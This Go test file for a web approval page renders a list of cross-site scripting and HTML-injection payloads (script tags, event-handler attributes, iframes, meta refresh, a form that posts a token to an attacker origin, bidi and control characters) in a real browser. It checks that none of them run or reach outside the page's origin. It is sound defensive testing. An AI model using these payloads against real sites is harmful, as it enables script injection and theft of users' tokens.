package hooks_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"unicode"

	"github.com/hocket-run/hocket/internal/api/hooks"
	"github.com/hocket-run/hocket/internal/browsertest"
	"github.com/hocket-run/hocket/internal/engine/event"
)

// seen is what scripts/browser/pages.mjs reports about a page.
type seen struct {
	Name            string
	Requests        []string
	Dialogs, Popups int
	Wider           []string
	Canary          bool
	Elements        []string
	Attributes      []string // element, attribute, = and value
	Links, Forms    []string
	Text            string
	Cut             []string // elements that hide part of their content
	Inputs          []string
	At              string
}

// inspectPages opens pages, by name, and returns what the browser reports. HOCKET_PICTURES names a
// folder for screenshots of them.
func inspectPages(t *testing.T, pages map[string]string) map[string]seen {
	t.Helper()
	node, script, chromium := browsertest.Find(t, "pages.mjs")
	type page struct {
		Name string `json:"name"`
		URL  string `json:"url"`
	}
	var list []page
	for _, name := range slices.Sorted(maps.Keys(pages)) {
		list = append(list, page{name, pages[name]})
	}
	in, err := json.Marshal(list)
	if err != nil {
		t.Fatal(err)
	}
	args := []string{script, chromium}
	if dir := os.Getenv("HOCKET_PICTURES"); dir != "" {
		args = append(args, dir)
	}
	cmd := exec.CommandContext(t.Context(), node, args...)
	var errs bytes.Buffer
	cmd.Stdin, cmd.Stderr = bytes.NewReader(in), &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v: %s %s", err, out, errs.String())
	}
	var all []seen
	if err := json.Unmarshal(out, &all); err != nil || len(all) != len(pages) {
		t.Fatalf("%v: %s", err, out)
	}
	by := map[string]seen{}
	for _, s := range all {
		by[s.Name] = s
	}
	return by
}

// payloads holds malicious strings by name, which try to make a page do something; %s is the
// attacker's origin. Each starts with the word marked.
var payloads = map[string]string{
	"script": `marked<script>window.canary=1;alert(1)</script><script src="%s/x.js"></script>`,
	"close": `marked</title></textarea></style></pre></code></dd></form></main>-->` +
		`<script>window.canary=1;alert(1)</script>`,
	"comment": `marked<!--`,
	"svg": `marked<svg onload="window.canary=1;alert(1)"><script href="%s/x.js"/><image ` +
		`href="%s/x.svg"/></svg>`,
	"img": `marked<img src="%s/x.png"><img src=x onerror="window.canary=1;alert(1)">`,
	"iframe": `marked<iframe src="%s/frame"></iframe><iframe ` +
		`srcdoc="<script>parent.canary=1</script>"></iframe><object data="%s/o"></object><embed src="%s/e">`,
	"link": `marked<link rel=stylesheet href="%s/x.css"><link rel=prefetch href="%s/p"><link rel=preconnect ` +
		`href="%s">`,
	"css": `marked<style>@import url(%s/i.css);body{background:url(%s/x.png)}</style><p ` +
		`style="background:url(%s/y.png)">x</p>`,
	"javascript": `marked<a href="javascript:window.canary=1">x</a> javascript:window.canary=1`,
	"data": `marked data:text/html,<script>window.canary=1</script><a ` +
		`href="data:text/html,<script>opener.canary=1</script>">x</a>`,
	"refresh": `marked<meta http-equiv=refresh content="0;url=%s/gone">`,
	"base":    `marked<base href="%s/">`,
	"form": `marked</form><form action="%s/take" method=post><input name=token><button ` +
		`formaction="%s/take">Approve</button></form>`,
	"attribute": `marked" onfocus="window.canary=1" autofocus x="' onmouseover='window.canary=1`,
	"unquoted":  "marked x onfocus=window.canary=1 autofocus `onload=window.canary=1`",
	"media":     `marked<video autoplay poster="%s/p"><source src="%s/v"></video><audio src="%s/a" autoplay></audio>`,
	"template":  `marked{{.Token}} {{template "text" .}} ${window.canary=1} <%= 1 %> {% raw %} #{1} [[1]]`,
	"entities": `marked&lt;script&gt;window.canary=1&lt;/script&gt; ` +
		`&#60;script&#62;window.canary=1&#60;/script&#62; \u003cscript\u003ewindow.canary=1\u003c/script\u003e`,
	"url":       `marked %s/approve ../../../x?y=%%2e%%2e#z`,
	"bidi":      "marked \u202eevorppa\u202c \u2066x\u2069 \u200f\u061c\u200b\u2060\ufeff \U000e0041",
	"control":   "marked \x00\x01\x07\x08\x0b\x0c\x1b[31mred\x1b]8;;x\x07 \x7f \u0085 \u2028 \u2029 \xff\xfe end",
	"lines":     "marked" + strings.Repeat("\nApprove the small thing", 60),
	"long word": "marked" + strings.Repeat("W", 4000),
	"long text": "marked" + strings.Repeat(" a long text of many words", 200),
	"combining": "marked" + strings.Repeat("z\u0310\u0352\u0358", 400),
	"wide":      "marked" + strings.Repeat("\u4f60\u597d\ufdfd", 400),
	"utf-7":     `marked+ADw-script+AD4-window.canary=1+ADw-/script+AD4-`,
	"custom": `marked<x-y onclick=window.canary=1 tabindex=1 autofocus onfocus=window.canary=1>x</x-y><details ` +
		`open ontoggle=window.canary=1><math><mi xlink:href="%s/m">`,
	"shadow root": `marked<div><template shadowrootmode=open><script>window.canary=1</script><img ` +
		`src="%s/x.png"></template></div>`,
}

// allElements lists the elements of the page itself.
var allElements = strings.Fields("body button code dd details div dl dt form h1 h2 head header html input label link " +
	"main meta option p pre section select span summary textarea title")

// anything stands for any value of an attribute: of submitted values, of the class of a button,
// which the test sets, and of the action of the form, which checkHarmless checks.
const anything = "*"

// allAttributes holds the attributes of the page itself, by element, with their allowed values
// separated by |. # stands for the number of a field, or of one of its values.
var allAttributes = map[string]string{
	"html lang": "en", "meta charset": "utf-8", "meta name": "viewport|robots",
	"meta content": "width=device-width, initial-scale=1|noindex, nofollow",
	"link rel":     "stylesheet", "link href": "/approve/-/style.css", "div class": "buttons",
	"section class": "prompt|call", "span class": "mark|esc|quiet",
	"p class": "good|bad|note|warn|tool|quiet|detail|hint", "p id": "field-#-hint", "p role": "alert",
	"label for":   "answer|note|field-#",
	"form method": "post", "form autocomplete": "off", "form action": anything,
	"button type": "submit", "button disabled": "", "button hidden": "", "button name": "decision|send",
	"button value": anything, "button class": anything,
	"input type": "hidden|text|date|email", "input name": "token|note|field-#", "input id": "note|field-#",
	"input value": anything, "input maxlength": "1000",
	"input inputmode": "decimal", "input required": "", "input aria-describedby": "field-#-hint",
	"select name": "field-#", "select id": "field-#", "select required": "", "select aria-describedby": "field-#-hint",
	"option value": "|#|true|false", "option selected": "",
	"textarea name": "answer|field-#", "textarea id": "answer|field-#", "textarea rows": "1|4",
	"textarea maxlength": "8000", "textarea class": "field",
	"textarea required": "", "textarea aria-describedby": "field-#-hint",
}

var (
	aNumber    = regexp.MustCompile("^[0-9]+$")
	fieldNames = regexp.MustCompile("^field-[0-9]+")
)

// isOwn reports whether the page itself writes an attribute, passed as element, attribute, = and
// value.
func isOwn(attribute string) bool {
	name, value, _ := strings.Cut(attribute, "=")
	allowed, ok := allAttributes[name]
	list, numbered := strings.Split(allowed, "|"), fieldNames.ReplaceAllString(aNumber.ReplaceAllString(value, "#"),
		"field-#")
	return ok && (allowed == anything || slices.Contains(list, value) || slices.Contains(list, numbered))
}

// checkHarmless checks that a page satisfies SEC15: no part of a text became part of the page.
func checkHarmless(t *testing.T, s *seen, origin string) {
	t.Helper()
	if s.Canary || s.Dialogs > 0 || s.Popups > 0 {
		t.Errorf("%s: a script ran: canary %t, %d dialogs, %d popups", s.Name, s.Canary, s.Dialogs, s.Popups)
	}
	for _, r := range s.Requests {
		if !strings.HasPrefix(r, origin+"/") {
			t.Errorf("%s: it asked for %.200s", s.Name, r)
		}
	}
	if !strings.HasPrefix(s.At, origin+"/") {
		t.Errorf("%s: it went to %.200s", s.Name, s.At)
	}
	for _, e := range s.Elements {
		if !slices.Contains(allElements, e) {
			t.Errorf("%s: it has an element %s", s.Name, e)
		}
	}
	for _, a := range s.Attributes {
		if !isOwn(a) {
			t.Errorf("%s: it has an attribute %.200s", s.Name, a)
		}
	}
	if len(s.Forms) > 1 || len(s.Forms) == 1 && s.Forms[0] != origin+" post" {
		t.Errorf("%s: forms %q", s.Name, s.Forms)
	}
	if !slices.Equal(s.Links, []string{origin + "/approve/-/style.css"}) {
		t.Errorf("%s: links %q", s.Name, s.Links)
	}
	if i := strings.IndexFunc(s.Text, func(r rune) bool {
		return r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Co)
	}); i >= 0 {
		t.Errorf("%s: it shows %q", s.Name, s.Text[i:min(len(s.Text), i+20)])
	}
	if len(s.Wider) > 0 || len(s.Cut) > 0 {
		t.Errorf("%s: not all is to be seen: it is broader than the window (%v), or cut (%v)", s.Name, s.Wider, s.Cut)
	}
}

// TestBrowser_NoScriptsRun checks in a real browser that whatever text the page contains, no script
// runs, nothing leaves the server's origin, and the page has only its own elements (SEC12, SEC15).
// That also holds without its Content-Security-Policy, so that there are two lines of defense.
func TestBrowser_NoScriptsRun(t *testing.T) {
	t.Parallel()
	browsertest.Find(t, "pages.mjs")
	var foreign atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		foreign.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer other.Close()
	w := newWorld(t, setup{})
	texts := map[string]string{}
	for name, p := range payloads {
		n := strings.Count(strings.ReplaceAll(p, "%%", ""), "%s")
		if n > 0 {
			args := slices.Repeat([]any{other.URL}, n)
			p = fmt.Sprintf(p, args...)
		}
		texts[name] = p
	}
	m := http.NewServeMux()
	m.Handle("/approve/", w.hooks.Approve())
	m.HandleFunc("GET /page/{csp}/{shape}/{payload}", func(rw http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		hooks.ShowForTest(rec, r.PathValue("shape"), texts[r.PathValue("payload")])
		if r.PathValue("csp") == "without" {
			rec.Header().Del("Content-Security-Policy")
		}
		maps.Copy(rw.Header(), rec.Header())
		_, _ = rec.Body.WriteTo(rw)
	})
	own := httptest.NewServer(m)
	defer own.Close()
	pages := map[string]string{}
	for payload := range payloads {
		for i, shape := range []string{hooks.ShapeButtons, hooks.ShapeText, hooks.ShapeFields, hooks.ShapeMessage} {
			csp := []string{"without", "with"}[(len(payload)+i)%2]
			pages[payload+" "+shape] = own.URL + "/page/" + csp + "/" + shape + "/" + payload
		}
	}
	for name, s := range inspectPages(t, pages) {
		checkHarmless(t, &s, own.URL)
		payload, shape, _ := cutLast(name)
		// Each text is present, and as text.
		want := map[string]int{hooks.ShapeButtons: 10, hooks.ShapeText: 8, hooks.ShapeFields: 22,
			hooks.ShapeMessage: 3}[shape]
		if n := strings.Count(s.Text, "marked"); n < want {
			t.Errorf("%s: the text is there %d times, want %d", name, n, want)
		}
		first := strings.TrimPrefix(texts[payload], "marked")
		if i := strings.IndexFunc(first, func(r rune) bool { return r < ' ' || r > '~' }); i >= 0 {
			first = first[:i]
		}
		if shape != hooks.ShapeText && shape != hooks.ShapeFields &&
			!strings.Contains(s.Text, strings.TrimSpace(first)) {
			t.Errorf("%s: the text is not as it was: %.300s", name, s.Text)
		}
	}
	if n := foreign.Load(); n > 0 {
		t.Errorf("the other origin was asked %d times", n)
	}
}

func cutLast(name string) (before, after string, ok bool) {
	i := strings.LastIndex(name, " ")
	if i < 0 {
		return name, "", false
	}
	return name[:i], name[i+1:], true
}

// TestBrowser_RunPages checks the same for pages of real runs, with text from a model, a workflow
// and a person who answers.
func TestBrowser_RunPages(t *testing.T) {
	t.Parallel()
	browsertest.Find(t, "pages.mjs")
	var foreign atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { foreign.Add(1) }))
	defer other.Close()
	w := newWorld(t, setup{config: hooks.Config{PublicURL: public}})
	evil := fmt.Sprintf("marked\u202e</textarea></pre><script>window.canary=1;alert(1)</script><img src=%s/x.png "+
		"onerror=window.canary=1>"+
		`<meta http-equiv=refresh content="0;url=%s/gone"><form action=%s/take>{{.Token}}%s`, other.URL, other.URL,
		other.URL, strings.Repeat("W", 400))
	quoted, err := json.Marshal(evil)
	if err != nil {
		t.Fatal(err)
	}
	h := w.hooks.Approve()
	m := http.NewServeMux()
	m.Handle("/approve/", h)
	m.HandleFunc("GET /posted/", func(rw http.ResponseWriter, r *http.Request) { // response to the form
		path := "/approve" + strings.TrimPrefix(r.URL.Path, "/posted")
		rec := send(h, "POST", path, form(path, "send", r.URL.Query().Get("send"), "answer", evil, "note", evil),
			fromPage...)
		maps.Copy(rw.Header(), rec.Header())
		_, _ = io.Copy(rw, rec.Body)
	})
	own := httptest.NewServer(m)
	defer own.Close()
	named := strings.Replace(gate, `"id": "gate"`, `"name": `+string(quoted), 1)
	call := "agents:\n  root: {model: fake/x, toolsets: [{type: think}], permissions: {ask: [think]}}\nworkflow:\n  " +
		"- {type: agent, name: root}\n"
	callReplies := fmt.Sprintf("replies:\n  - {agent: root, toolCalls: [{name: think, arguments: {thought: %s}}]}\n  "+
		"- {agent: root, text: done}\n", quoted)
	askEvil := fmt.Sprintf("replies:\n  - {agent: root, toolCalls: [{name: user_prompt, arguments: {message: %s, "+
		"schema: {type: integer, description: %[1]s}}}]}\n  - {agent: root, text: done}\n", quoted)
	question, approval, ended := w.link(w.start(ask, "yaml", askEvil, "go")), w.link(w.start(named, "json", "", evil)),
		w.link(w.start(gate, "json", "", "x"))
	callRun := w.start(call, "yaml", callReplies, "go")
	if rec := send(h, "POST", ended, form(ended, "decision", "reject", "note", evil),
		fromPage...); rec.Code != http.StatusOK {
		t.Fatal(rec.Code, rec.Body)
	}
	after := func(path string) string { return own.URL + "/posted" + strings.TrimPrefix(path, "/approve") }
	got := inspectPages(t, map[string]string{
		"run approval": own.URL + approval, "run call": own.URL + w.link(callRun), "run question": own.URL + question,
		"run answered":     own.URL + ended,
		"run wrong-answer": after(question) + "?send=1",
		"run unknown":      own.URL + "/approve/%3Cscript%3Ewindow.canary=1%3C%2Fscript%3E",
	})
	for name, s := range got {
		checkHarmless(t, &s, own.URL)
		want := map[string]int{"run unknown": 0, "run approval": 2}
		n, ok := want[name]
		if !ok {
			n = 1
		}
		if strings.Count(s.Text, "marked") < n || n > 0 && !strings.Contains(s.Text, "<script>window.canary=1") {
			t.Errorf("%s: %.500s", name, s.Text)
		}
	}
	if s := got["run wrong-answer"]; !slices.Contains(s.Inputs, evil) {
		t.Errorf("what was written is lost: %.300q", s.Inputs)
	}
	if st := w.status(callRun); st != event.StatusPaused || foreign.Load() > 0 {
		t.Errorf("the run is %s; the other origin was asked %d times", st, foreign.Load())
	}
}

// TestBrowser_DetectsScripts validates the two tests above: pages that do run and load what their
// text contains are detected, and the policy alone stops them.
func TestBrowser_DetectsScripts(t *testing.T) {
	t.Parallel()
	browsertest.Find(t, "pages.mjs")
	var foreign atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { foreign.Add(1) }))
	defer other.Close()
	policy := send(newWorld(t, setup{}).hooks.Approve(), "GET", "/approve/x", "").Header().Get(
		"Content-Security-Policy")
	body := fmt.Sprintf(
		`<!doctype html><title>x</title><body>%s<img src="%s/x.png"><iframe src="%s/f"></iframe><style>@import `+
			`url(%s/x.css)</style><script>window.canary=1;alert(1)</script><div `+
			`style="overflow:hidden;height:1px">cut</div>%s`,
		strings.Repeat("\u202e", 2), other.URL, other.URL, other.URL, strings.Repeat("W", 400))
	m := http.NewServeMux()
	m.HandleFunc("GET /page/{csp}", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.PathValue("csp") {
		case "with":
			w.Header().Set("Content-Security-Policy", policy)
		case "moved":
			_, _ = fmt.Fprintf(w, `<meta http-equiv=refresh content="0;url=%s/gone">`, other.URL)
			return
		}
		_, _ = io.WriteString(w, body)
	})
	own := httptest.NewServer(m)
	defer own.Close()
	with := inspectPages(t, map[string]string{"control with": own.URL + "/page/with"})["control with"]
	if with.Canary || with.Dialogs > 0 || foreign.Load() > 0 {
		t.Errorf("the policy does not hold: %+v, %d", with, foreign.Load())
	}
	got := inspectPages(t, map[string]string{"control without": own.URL + "/page/without"})["control without"]
	if !got.Canary || got.Dialogs != 1 || foreign.Load() < 3 || !slices.Contains(got.Elements, "iframe") ||
		!strings.Contains(got.Text, "\u202e") ||
		!slices.ContainsFunc(got.Requests, func(r string) bool { return r == other.URL+"/x.css" }) {
		t.Errorf("a script and what it loads are not seen: %+v, %d", got, foreign.Load())
	}
	if len(got.Wider) != 2 || !slices.Contains(got.Cut, "wide div") || !slices.Contains(got.Cut, "narrow div") ||
		isOwn("div style=x") || isOwn("input type=image") || !isOwn("p id=field-0-hint") {
		t.Errorf("what is broad, cut or no part of the page is not seen: %v %v", got.Wider, got.Cut)
	}
	moved := inspectPages(t, map[string]string{"control moved": own.URL + "/page/moved"})["control moved"]
	if !slices.Contains(moved.Requests, other.URL+"/gone") {
		t.Errorf("a page that leaves is not seen: %+v", moved)
	}
}
